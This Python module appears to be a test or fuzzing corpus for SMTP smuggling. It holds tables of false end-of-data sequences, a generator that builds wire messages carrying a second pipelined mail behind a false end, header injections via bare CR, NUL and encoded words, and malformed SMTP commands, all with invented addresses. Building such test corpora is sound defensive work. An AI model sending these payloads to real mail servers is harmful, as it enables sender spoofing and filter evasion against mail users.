"""Every way known to make one server see a line end, or an end of data, that another does not.

CVE-2023-51764, -51765, -51766 and what was published after them, and older ways to put a header
where nobody looks. All text is invented.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

HANAKO = "hanako@corp.example"
CUSTOMER = "ann@customer.example"
VICTIM = "victim@victim.example"
"""Whoever is named by what was injected, and nowhere else."""

ENDS = {
    "LF . LF": b"\n.\n",
    "LF . CRLF": b"\n.\r\n",
    "CRLF . LF": b"\r\n.\n",
    "CR . CR": b"\r.\r",
    "CR . CRLF": b"\r.\r\n",
    "CRLF . CR": b"\r\n.\r",
    "LF . CR": b"\n.\r",
    "CR . LF": b"\r.\n",
    "LFCR . LFCR": b"\n\r.\n\r",
    "CRCRLF . CRCRLF": b"\r\r\n.\r\r\n",
    "CRLF . CRCRLF": b"\r\n.\r\r\n",
    "LF LF . CRLF": b"\n\n.\r\n",
    "NUL before the dot": b"\r\n\x00.\r\n",
    "NUL behind the dot": b"\r\n.\x00\r\n",
    "NUL in the line end": b"\r\n.\r\x00\n",
    "NUL in both": b"\r\x00\n.\r\x00\n",
    "blank before the dot": b"\r\n .\r\n",
    "blank behind the dot": b"\r\n. \r\n",
    "tab behind the dot": b"\r\n.\t\r\n",
    "backspace behind the dot": b"\r\n.x\x08\r\n",
    "vertical tab": b"\r\n.\x0b\r\n",
    "form feed": b"\x0c.\x0c",
    "next line": b"\x85.\x85",
    "next line, UTF-8": "\u0085.\u0085".encode(),
    "line separator": "\u2028.\u2028".encode(),
    "full-width dot": "\r\n．\r\n".encode(),
    "quoted-printable": b"=0D=0A.=0D=0A",
    "two dots": b"\r\n..\r\n",
    "two dots, LF": b"\n..\n",
    "two dots, CR": b"\r\n..\r",
    "three dots, LF": b"\r\n...\n",
    "SUB": b"\r\n\x1a\r\n",
}
"""What stands in for CRLF . CRLF; to RFC 5321 section 4.1.1.4 none of it is an end."""

AT_THE_BEGINNING = {
    "dot LF": b".\n",
    "dot CR": b".\r",
    "dot CRCRLF": b".\r\r\n",
    "LF dot CRLF": b"\n.\r\n",
    "CR dot CRLF": b"\r.\r\n",
    "dot NUL CRLF": b".\x00\r\n",
    "dot blank CRLF": b". \r\n",
    "two dots": b"..\r\n",
}
"""The same where the mail begins, as if the CRLF of DATA were a part of it."""


@dataclass(frozen=True, slots=True)
class Smuggled:
    """A mail as it goes over the wire behind 354, without its CRLF . CRLF; what it tries."""

    name: str
    wire: bytes

    @property
    def has_bare(self) -> bool:
        """Whether a CR or LF stands alone in it."""
        rest = self.wire.replace(b"\r\n", b"")
        return b"\r" in rest or b"\n" in rest


def mail(
    number: int, recipient: str = CUSTOMER, headers: bytes = b"", text: str = "Hello"
) -> bytes:
    """An ordinary mail, with further headers at its beginning."""
    return (
        headers
        + (
            f"From: Sato Hanako <{HANAKO}>\r\nTo: <{recipient}>\r\nSubject: Offer {number}\r\n"
            f"Message-ID: <{number}@outer.example>\r\n\r\n{text} {number}"
        ).encode()
    )


def behind(number: int, to: str) -> dict[str, bytes]:
    """What is pipelined behind the false end."""
    inner = mail(number, VICTIM, text="Smuggled").replace(b"@outer", b"@inner")
    envelope = f"MAIL FROM:<{HANAKO}>\r\nRCPT TO:<{to}>\r\nDATA\r\n".encode()
    return {
        "a mail": envelope + inner,
        "a mail with bare LF": (envelope + inner).replace(b"\r\n", b"\n"),
        "a mail with a hello": b"RSET\r\nEHLO evil\r\n" + envelope + inner,
        "a mail in a chunk": f"MAIL FROM:<{HANAKO}> BODY=BINARYMIME\r\n"
        f"RCPT TO:<{to}>\r\nBDAT {len(inner)} LAST\r\n".encode()
        + inner,
    }


def smuggled(to: str, *, first: int = 1) -> Iterator[Smuggled]:
    """Every false end with a second mail behind it; to be sent as one mail each."""
    number = first
    places = [(one, b"\r\nfirst", end) for one, end in ENDS.items()]
    places += [(f"at the beginning: {one}", None, end) for one, end in AT_THE_BEGINNING.items()]
    kinds = list(behind(0, to))
    for at, (name, before, end) in enumerate(places):
        # Every kind behind the four best known; one behind each of the others.
        for kind in kinds if at < 4 else [kinds[at % len(kinds)]]:
            outer = b"" if before is None else mail(number) + before
            wire = outer + end + behind(number, to)[kind]
            yield Smuggled(f"{name}, then {kind}", wire)
            number += 1


def _injections(end: bytes) -> list[bytes]:
    injected = [
        f"From: <{VICTIM}>",
        f"Bcc: <{VICTIM}>",
        f"Cc: <{VICTIM}>",
        f"Sender: <{VICTIM}>",
        f"Reply-To: <{VICTIM}>",
    ]
    return [b"X-Note: hello" + end + one.encode() + b"\r\n" for one in injected]


HEADERS = {
    "CR": _injections(b"\r"),
    "CR CR": _injections(b"\r\r"),
    "CR at the beginning of a line": _injections(b"\r\n\r"),
    "CR blank": _injections(b"\r \r"),
    "NUL": _injections(b"\x00"),
    "NUL CR": _injections(b"\x00\r"),
    "vertical tab": _injections(b"\x0b"),
    "form feed": _injections(b"\x0c"),
    "separators": _injections(b"\x1c\x1d\x1e"),
    "next line": _injections(b"\x85"),
    "next line, UTF-8": _injections("\u0085".encode()),
    "line separator": _injections("\u2028".encode()),
    "encoded word": _injections(b" =?utf-8?Q?=0D=0A?="),
    "encoded word, base64": _injections(b" =?utf-8?B?DQo=?="),
    "CR in a name": [
        f"B\rcc: <{VICTIM}>\r\n".encode(),
        f"Bcc\r: <{VICTIM}>\r\n".encode(),
        f"Bcc\r\t:<{VICTIM}>\r\n".encode(),
    ],
    "CR before a name": [f"\rBcc: <{VICTIM}>\r\n".encode()],
}
"""Headers in front of a mail that contain another one, for whoever ends lines there."""

COMMANDS = [
    b"MAIL FROM:<%s\rRCPT TO:<victim>>",
    b"MAIL FROM:<a@b.example\r>",
    b"MAIL FROM:<a@b.example>\rRCPT TO:<%s>",
    b"MAIL FROM:<a@b.example> SIZE=10\rRCPT",
    b"MAIL FROM:<a@b.example> BODY=8BITMIME\x00",
    b"MAIL FROM:<a\x00@b.example>",
    b'MAIL FROM:<"a\rb"@b.example>',
    b'MAIL FROM:<"a\\\rb"@b.example>',
    b"MAIL FROM:<a@b.example> SIZE=-1",
    b"MAIL FROM:<a@b.example> SIZE=+1",
    b"MAIL FROM:<a@b.example> SIZE=1e3",
    b"MAIL FROM:<a@b.example> SIZE=0x10",
    b"MAIL FROM:<a@b.example> SIZE=",
    b"MAIL FROM:<a@b.example> SIZE",
    b"MAIL FROM:<a@b.example> SIZE=1_0",
    "MAIL FROM:<a@b.example> SIZE=１０".encode(),
    b"MAIL FROM:<a@b.example> SIZE=" + b"9" * 21,
    b"MAIL FROM:<a@b.example> SIZE=99999999999999999999",
    b"MAIL FROM:<a@b.example> BODY=BINARYMIME",
    b"BDAT 10",
    b"BDAT 0 LAST",
    b"BDAT -1 LAST",
    b"BDAT 99999999999999999999 LAST",
    b"NOOP\rMAIL FROM:<a@b.example>",
    b"\rMAIL FROM:<a@b.example>",
    b"\x00MAIL FROM:<a@b.example>",
    b"DATA\r.",
]
"""Commands that carry more than they should, without their line end; each is refused."""
